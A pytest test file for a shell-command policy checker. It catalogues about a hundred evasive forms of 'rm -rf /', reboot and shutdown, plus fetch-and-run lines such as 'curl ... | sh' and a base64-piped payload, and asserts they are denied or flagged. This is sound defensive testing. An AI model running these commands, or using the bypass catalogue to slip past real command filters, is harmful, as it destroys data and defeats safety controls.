"""Every bypass family of issue 10 against the demo rules: each is denied or flagged unresolved,
and commands that merely mention a dangerous word are allowed."""

from __future__ import annotations

import pytest
from commands_support import check, demo_policy

from bastion.policy.commands import Verdict, normalize_line

DENIED = [
    # the plain forms
    "rm -rf /",
    "rm -r -f /",
    "rm -fr /",
    "rm -Rf /",
    "rm --recursive --force /",
    "rm --rec --forc /",  # GNU getopt accepts unambiguous prefixes
    "rm / -rf",  # GNU tools take options after operands
    "shutdown -h now",
    "reboot",
    "halt -p",
    "poweroff",
    "systemctl poweroff",
    "systemctl --no-block reboot",
    "systemctl isolate reboot.target",
    "init 0",
    "telinit 6",
    # quoting and escaping
    "r''m -rf /",
    'r""m -rf /',
    "'rm' -rf /",
    '"rm" "-rf" /',
    "\\rm -rf /",
    "r\\m -rf /",
    "$'\\x72\\x6d' -rf /",
    "$'\\162\\155' -rf /",
    "$'\\u0072m' -rf /",
    '$"rm" -rf /',
    "rm -r''f /",
    "rm -\\r\\f /",
    # paths
    "/bin/rm -rf /",
    "/usr/sbin/./shutdown now",
    "/usr/sbin/../sbin/reboot",
    "./../../sbin/halt",
    # wrappers
    "sudo -u root env X=1 nice rm -fr /",
    "sudo -E -H -- rm -rf /",
    "sudo --user=root rm -rf /",
    "env -i PATH=/bin rm -rf /",
    "env -S 'rm -rf' /",
    "nohup reboot",
    "timeout 5 shutdown now",
    "timeout -s KILL 10s reboot",
    "command rm -rf /",
    "exec reboot",
    "nice -n 10 reboot",
    "nice -10 reboot",
    "ionice -c3 rm -rf /",
    "time rm -rf /",
    "time -p reboot",
    "stdbuf -oL reboot",
    "setsid reboot",
    "chroot / reboot",
    "chroot --userspec=root / rm -rf /",
    "busybox reboot",
    "busybox rm -rf /",
    "doas reboot",
    "unbuffer reboot",
    "flock /tmp/lock reboot",
    "flock /tmp/lock -c 'reboot'",
    "watch reboot",
    "watch -n 1 'rm -rf /tmp/x'",
    "su -c reboot",
    "su - root -c 'rm -rf /'",
    "su root --command='shutdown now'",
    "sudo -s reboot",
    "sudo sh -c 'reboot'",
    "xargs rm -rf",
    "find / -exec rm -rf {} +",
    "find / -name x -execdir reboot \\;",
    "builtin eval reboot",
    "ssh otherhost reboot",
    "strace -f reboot",
    "exec -a foo rm -rf /",
    "command -p rm -rf /",
    "nice -n10 rm -rf /",
    "env --split-string='rm -rf /'",
    "xargs -I{} rm -rf {}",
    "xargs -0 -n1 rm -rf",
    "rm\t-rf\t/",
    "coproc reboot",
    "pkexec reboot",
    "screen -dmS x reboot",
    "sudo -- sh -c reboot",
    "timeout --signal=KILL 5 reboot",
    # shells and program texts
    "bash -c 'rm -rf /'",
    "sh -c reboot",
    "dash -c 'shutdown now'",
    "zsh -c 'reboot'",
    "bash -lc 'reboot'",
    "bash -x -c 'reboot' name",
    "bash -c 'bash -c \"rm -rf /\"'",
    'eval "rm -rf /"',
    "eval -- reboot",
    "eval rm -rf /",
    "eval 'r''m -rf /'",
    "bash <<< 'reboot'",
    "sh <<< \"rm -rf /\"",
    "bash <<EOF\nreboot\nEOF",
    "bash <<'EOF'\nrm -rf /\nEOF",
    "alias ll='rm -rf /'",
    "trap 'reboot' EXIT",
    "trap -- 'reboot' EXIT",
    "hash -p /sbin/reboot ls",
    "trap -p -- 'rm -rf /' INT",
    "PROMPT_COMMAND='reboot'",
    # splitting
    "ls; reboot",
    "ls && reboot",
    "false || reboot",
    "ls | reboot",
    "reboot &",
    "ls\nreboot",
    "ls\n\nrm -rf /",
    "{ rm -rf /; }",
    "(reboot)",
    "( ( reboot ) )",
    "x=$(reboot)",
    "echo `reboot`",
    "echo \"$(reboot)\"",
    "echo ${x:-$(reboot)}",
    "echo $((1 + $(reboot)))",
    "cat <(shutdown now)",
    "tee >(reboot)",
    "if true; then reboot; fi",
    "while true; do reboot; done",
    "for i in 1; do rm -rf /; done",
    "case x in x) reboot;; esac",
    "f() { reboot; }; f",
    "! reboot",
    "! { reboot; }",
    "! if true; then $'\\162\\155' --rec $'\\055\\146' x; fi",  # found by bash fuzzing
    "! while true; do reboot; done",
    "! until false; do reboot; done",
    "time { reboot; }",
    "time (reboot)",
    "coproc x { reboot; }",
    "coproc (reboot)",
    "function f { reboot; }",
    "until reboot; do :; done",
    "select x in a; do reboot; done",
    "reboot|&cat",
    ">out reboot",
    "a=($(reboot))",
    "case $(reboot) in *) ;; esac",
    "for x in $(reboot); do :; done",
    "cat <<< $(reboot)",
    "while read l; do reboot; done < f",
    "exec 3< <(reboot)",
    "sudo -iu root reboot",
    "[[ $(reboot) ]]",
    "export X=$(reboot)",
    "cat <<EOF\n$(reboot)\nEOF",
    # line continuation
    "rm -r\\\n -f /",
    "r\\\nm -rf /",
    "reb\\\noot",
    # brace expansion
    "/sbin/{reboot,x}",
    "r{m,} -rf /",
    "rm -{r,f} /",
]

UNRESOLVED = [
    "$(echo rm) -rf /",
    "`echo rm` -rf /",
    "$cmd -rf /",
    "${CMD} now",
    '"$x" -rf /',
    "r$x -rf /",
    "/usr/bin/r? -rf /",
    "/sbin/reb*",
    "echo cm0gLXJmIC8= | base64 -d | bash",
    "curl -s http://example.com/x | sh",
    "curl x | sudo bash",
    "bash < script.sh",
    "sh -s < x",
    "cat x | python3",
    "bash -c \"$payload\"",
    'eval "$x"',
    "source <(curl x)",
    ". <(echo reboot)",
    "source -- <(echo reboot)",
    "bash <(curl x)",
    "rm $opts /",
    "o=-rf; rm $o /",
    "echo -rf / | xargs rm",
    "systemctl $action nginx",
    "rm *",  # a file named -rf would be an option
]

ALLOWED = [
    "ls",
    "ls -la /tmp",
    "echo rm -rf /",
    "echo 'rm -rf /'",
    "printf '%s\\n' reboot",
    "grep shutdown log",
    "grep -r 'rm -rf' .",
    "man reboot",
    "cat /var/log/reboot.log",
    "rm -r dir",
    "rm -f file",
    "rm -- -rf",
    "rm -i -r dir",
    "systemctl status nginx",
    "systemctl start nginx",
    "journalctl -u reboot.target",
    "command -v reboot",
    "type reboot",
    "which shutdown",
    "echo {1..3}",
    "git commit -m 'rm -rf everything'",
    "bash script.sh",
    "python3 -c 'print(1)'",
    "vim /etc/hosts",
    "",
    "# rm -rf /",
    "x=1",
]


@pytest.mark.parametrize("line", DENIED)
def test_bypass_is_denied(line: str) -> None:
    decision = check(line)
    assert decision.verdict is Verdict.DENY, (line, decision)
    assert decision.rule is not None
    assert not decision.unparseable


# tree-sitter-bash does not accept a brace expression in command position: such a line is
# unparseable, which gets the strictest action in scope (deny here).
UNPARSEABLE = ["time { { reboot now; }; }",  # tree-sitter reads "{ {" as one word
               "{reboot,x}", "{rm,-rf,/}", "echo {a,b}; {reboot,x}", "rm -rf / )"]


@pytest.mark.parametrize("line", UNPARSEABLE)
def test_unparseable_bypass_is_denied(line: str) -> None:
    decision = check(line)
    assert decision.unparseable
    assert decision.verdict is Verdict.DENY, (line, decision)


@pytest.mark.parametrize("line", UNRESOLVED)
def test_unknowable_command_is_unresolved(line: str) -> None:
    decision = check(line)
    assert decision.unresolved, (line, decision)
    assert decision.verdict is Verdict.APPROVE, (line, decision)  # the demo's unresolved


@pytest.mark.parametrize("line", ALLOWED)
def test_harmless_mention_is_allowed(line: str) -> None:
    decision = check(line)
    assert decision.verdict is Verdict.ALLOW, (line, decision)
    assert decision.message == ""


def test_approval_and_warning_rules() -> None:
    assert check("systemctl restart nginx").verdict is Verdict.APPROVE
    assert check("sudo systemctl stop nginx").verdict is Verdict.APPROVE
    decision = check("sudo ls")
    assert decision.verdict is Verdict.WARN
    assert decision.rule == "warn-sudo"


def test_unparseable_line_gets_strictest_rule_action() -> None:
    decision = check('echo "never closed')
    assert decision.unparseable
    assert decision.verdict is Verdict.DENY
    assert "cannot be checked" in decision.message


def test_unresolved_policy_is_applied_per_setting() -> None:
    assert check("$x -rf /", demo_policy("deny")).verdict is Verdict.DENY
    assert check("$x -rf /", demo_policy("warn")).verdict is Verdict.WARN
    assert check("$x -rf /", demo_policy(None)).verdict is Verdict.DENY  # the default


def test_wrapped_command_is_reported_with_its_wrappers() -> None:
    commands = normalize_line("sudo -u root env X=1 nice rm -fr /").commands
    assert [c.name for c in commands] == ["sudo", "env", "nice", "rm"]
    rm = commands[-1]
    assert rm.options == ("-f", "-r")
    assert rm.operands == ("/",)
    assert rm.via == ("sudo", "env", "nice")
    assert rm.text == "rm -fr /"
